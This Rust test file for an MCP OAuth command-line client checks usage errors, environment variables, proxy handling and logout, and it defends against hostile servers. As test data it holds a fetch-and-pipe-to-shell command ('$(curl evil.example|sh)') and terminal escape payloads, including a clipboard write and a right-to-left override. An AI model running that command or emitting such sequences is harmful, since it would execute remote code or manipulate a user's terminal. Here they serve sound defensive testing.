//! What `mcp-oauth` makes of options, variables and failures, and of servers that write to terminals.

use std::process::Output;

use actix_web::HttpResponse;
use serde_json::{Value, json};

use crate::support::{
    command::Home,
    guarded::{Guarded, Kind, State},
    site::{self, Site},
};

async fn run_with(home: &Home, variables: &[(&str, &str)], arguments: &[&str]) -> (Option<i32>, String) {
    let mut command = home.command(arguments);
    let Output { status, stderr, .. } = command.envs(variables.iter().copied()).output().await.unwrap();
    (status.code(), String::from_utf8(stderr).unwrap())
}

#[tokio::test]
async fn for_programs_wrong_usage_is_json_too() {
    let home = Home::without_browser();
    for (arguments, problem) in [
        (
            &["token", "mcp.example.com/mcp", "--json"][..],
            "a whole address is needed",
        ),
        (
            &["--json", "login", "https://mcp.example.com/mcp", "--scope", "\""],
            "--scope",
        ),
        (&["logout", "--json"], "<URL>"),
        (&["--json", "fly"], "fly"),
        (
            &["serve", "--json", "--resolve", "a.example=127.0.0.1"],
            "serve takes no --resolve",
        ),
        (&["serve", "--json"], "MCP_CLIENT_TRUSTED_PROXIES"),
    ] {
        let refused = home.run(arguments).await;
        assert_eq!(
            (refused.code, refused.err.as_str()),
            (2, ""),
            "{arguments:?}: {refused:?}"
        );
        let told = refused.json();
        assert_eq!(told["error"], "usage", "{told}");
        let message = told["message"].as_str().unwrap();
        let is_plain = !message.starts_with("error") && !message.contains("Usage:");
        assert!(is_plain && message.contains(problem), "{arguments:?}: {message}");
    }
    // whoever asks for help gets it
    assert!(
        home.run(&["token", "--help", "--json"])
            .await
            .well()
            .out
            .contains("Usage:")
    );
}

#[tokio::test]
async fn an_empty_variable_counts_as_unset() {
    let home = Home::without_browser();
    let empty = ["MCP_OAUTH_CREDENTIALS", "MCP_OAUTH_CA", "MCP_OAUTH_KEYRING"].map(|name| (name, ""));
    let (code, err) = run_with(&home, &empty, &["list"]).await;
    assert_eq!(code, Some(0), "{err}");
    let names = [
        "HOST",
        "PORT",
        "PUBLIC_URL",
        "DATA_DIR",
        "REDIS_URL",
        "REDIS_PASSWORD",
        "REDIS_PASSWORD_FILE",
        "REDIS_PREFIX",
        "ENCRYPTION_KEY",
        "ENCRYPTION_KEY_FILE",
        "ALLOWED_PORTS",
        "CA_FILE",
        "REQUESTS_PER_MINUTE",
        "LOG_LEVEL",
    ];
    let names = names.map(|name| format!("MCP_CLIENT_{name}"));
    let empty: Vec<_> = names.iter().map(|name| (name.as_str(), "")).collect();
    let (code, err) = run_with(&home, &empty, &["serve"]).await;
    // its one fault is that nobody says who asks
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("MCP_CLIENT_TRUSTED_PROXIES") && !err.contains("a value is required"),
        "{err}"
    );
}

#[tokio::test]
async fn a_switch_is_turned_by_any_of_the_usual_words() {
    let home = Home::without_browser();
    for (word, expected) in [
        ("0", 0),
        ("false", 0),
        ("off", 0),
        ("1", 1),
        ("yes", 1),
        ("perhaps", 2),
    ] {
        let (code, err) = run_with(&home, &[("MCP_OAUTH_KEYRING", word)], &["list"]).await;
        // without a keyring in the system it fails when it is wanted
        assert_eq!(code, Some(expected), "{word}: {err}");
    }
}

#[tokio::test]
async fn the_service_refuses_options_that_it_would_pass_over() {
    let home = Home::without_browser();
    for (option, value, instead) in [
        ("--ca", "my.pem", "--ca-file"),
        ("--resolve", "a.example=127.0.0.1", "--dns-servers"),
        ("--credentials", "c.json", "--data-dir"),
    ] {
        for arguments in [["serve", option, value], [option, value, "serve"]] {
            let refused = home.run(&arguments).await;
            assert!(refused.code == 2 && refused.err.contains(instead), "{refused:?}");
        }
    }
    let help = home.run(&["serve", "--help"]).await.well().out;
    for option in ["--ca <", "--resolve", "--credentials", "--keyring"] {
        assert!(!help.contains(option), "{option}: {help}");
    }
    let (code, err) = run_with(&home, &[("MCP_OAUTH_CREDENTIALS", "c.json")], &["serve"]).await;
    assert!(
        code == Some(2) && !err.contains("serve takes no"),
        "a person's variable is no fault: {err}"
    );
}

#[tokio::test]
async fn what_is_for_this_machine_goes_through_no_proxy() {
    let (server, home) = (Guarded::start(State::default()), Home::with_browser());
    let proxy = Site::start(|_, _| site::page(502));
    let variables = ["HTTP_PROXY", "http_proxy", "ALL_PROXY"].map(|name| (name, proxy.url.as_str()));
    let url = server.mcp();
    home.run(&["login", &url]).await.well();
    let (code, err) = run_with(&home, &variables, &["call", &url, "echo", "--arg", "message=x"]).await;
    assert_eq!((code, proxy.lines()), (Some(0), Vec::new()), "{err}");
}

#[tokio::test]
async fn a_logout_that_could_not_be_told_fails_and_can_be_tried_again() {
    let (server, home) = (Guarded::start(State::default()), Home::with_browser());
    let url = server.mcp();
    home.run(&["login", &url]).await.well();
    server.state.lock().unwrap().is_busy = true;
    let refused = home.run(&["logout", &url]).await;
    assert!(
        refused.code == 1 && refused.err.contains("--forget"),
        "{refused:?}"
    );
    home.run(&["token", &url]).await.well();
    let refused = home.run(&["logout", "--all", "--forget", "--json"]).await;
    assert_eq!((refused.code, &refused.json()[0]["forgotten"]), (1, &json!(true)));
    assert_eq!(home.run(&["token", &url]).await.code, 3);
}

#[tokio::test]
async fn no_server_writes_a_command_for_the_person() {
    let state = State {
        demanded: Some("$(curl evil.example|sh) `id`"),
        ..State::default()
    };
    let (server, home) = (Guarded::start(state), Home::with_browser());
    let url = server.mcp();
    home.run(&["login", &url]).await.well();
    let refused = home.run(&["call", &url, "erase"]).await;
    assert_eq!(refused.code, 1, "{refused:?}");
    let (said, command) = refused.err.split_once("Log in for that").unwrap();
    assert!(
        said.contains("`id`") && !command.contains(['$', '`', '|']),
        "{refused:?}"
    );
}

const EVIL: &str = "\u{1b}[2J\u{1b}]52;c;eA==\u{7}\u{9b}1m\u{202e}";

/// What a server that writes to terminals answers; each does it at another place.
fn evil(place: &str, base: &str, asked: &site::Asked) -> HttpResponse {
    let metadata = |issuer: &str| {
        json!({
            "issuer": issuer, "authorization_endpoint": format!("{base}/authorize"), "token_endpoint": format!("{base}/token"),
        })
    };
    let issuer = match place {
        "issuer" | "pkce" => format!("{base}/{EVIL}"),
        _ => base.to_owned(),
    };
    match asked.place() {
        "/.well-known/oauth-protected-resource/mcp" => {
            let resource = if place == "resource" {
                EVIL.to_owned()
            } else {
                format!("{base}/mcp")
            };
            site::json(
                200,
                &json!({"resource": resource, "authorization_servers": [issuer]}),
            )
        }
        path if path.starts_with("/.well-known/oauth-authorization-server/") && place == "pkce" => {
            site::json(200, &metadata(&issuer))
        }
        "/.well-known/oauth-authorization-server" if place == "mismatch" => site::json(200, &metadata(EVIL)),
        "/.well-known/oauth-authorization-server" => site::json(200, &metadata(base)),
        "/mcp" if ["resource", "issuer", "pkce", "mismatch", "registration"].contains(&place) => {
            site::empty(401)
        }
        "/mcp" => {
            let request: Value = serde_json::from_str(&asked.body).unwrap_or_default();
            let tool = json!({
                "name": "echo", "description": EVIL,
                "inputSchema": {"properties": {EVIL: {"type": EVIL}}, "required": [EVIL], "additionalProperties": false},
            });
            let answer = match (place, request["method"].as_str()) {
                ("versions", Some("server/discover")) => json!({"result": {"supportedVersions": [EVIL]}}),
                (_, Some("server/discover")) => json!({"result": {"supportedVersions": ["2026-07-28"]}}),
                ("tools", Some("tools/list")) => json!({"result": {"tools": [tool]}}),
                _ => json!({"error": {"code": -1, "message": EVIL}}),
            };
            let mut answer = answer;
            answer["jsonrpc"] = "2.0".into();
            answer["id"] = request["id"].clone();
            site::json(200, &answer)
        }
        _ => site::page(404),
    }
}

#[tokio::test]
async fn what_a_server_says_moves_no_cursor_wherever_it_says_it() {
    let home = Home::with_browser();
    for (place, arguments) in [
        ("resource", &["login", "URL"][..]),
        ("issuer", &["login", "URL"]),
        ("pkce", &["login", "URL", "--client-id", "x"]),
        ("mismatch", &["login", "URL"]),
        ("registration", &["login", "URL"]),
        ("versions", &["tools", "URL"]),
        ("rpc", &["tools", "URL"]),
        ("rpc", &["call", "URL", "echo"]),
        ("tools", &["call", "URL", "echo"]),
        ("tools", &["call", "URL", "echo", "--arg", "a=b"]),
        ("tools", &["call", "URL", EVIL]),
    ] {
        let server = Site::start(move |base, asked| evil(place, base, asked));
        let url = server.at("/mcp").to_string();
        let arguments: Vec<_> = arguments
            .iter()
            .map(|one| if *one == "URL" { &url } else { *one })
            .collect();
        for json in [false, true] {
            let mut arguments = arguments.clone();
            arguments.extend(json.then_some("--json"));
            let ran = home.run(&arguments).await;
            assert!(ran.code == 1 || ran.code == 2, "{place}: {ran:?}");
            let told = format!("{}{}", ran.out, ran.err);
            let moves = |c: char| (c.is_control() && !"\n\t".contains(c)) || c == '\u{202e}';
            assert!(
                !told.is_empty() && !told.contains(moves),
                "{place} {arguments:?}: {told:?}"
            );
        }
    }
}

#[tokio::test]
async fn tools_of_a_hostile_server_are_listed_in_plain_text() {
    let server = Site::start(|base, asked| evil("tools", base, asked));
    let home = Home::without_browser();
    let url = server.at("/mcp").to_string();
    for arguments in [&["tools", url.as_str()][..], &["tools", &url, "--json"]] {
        let ran = home.run(arguments).await.well();
        assert!(!ran.out.contains(['\u{1b}', '\u{9b}', '\u{202e}']), "{ran:?}");
    }
    let kind = Kind::Open;
    let state = State {
        kind,
        ..State::default()
    };
    let open = Guarded::start(state);
    // for a program or a file, text is as it was
    let told = home
        .run(&["call", &open.mcp(), "echo", "--arg", "message=a\u{1b}b"])
        .await
        .well();
    assert_eq!(told.out, "a\u{1b}b");
}
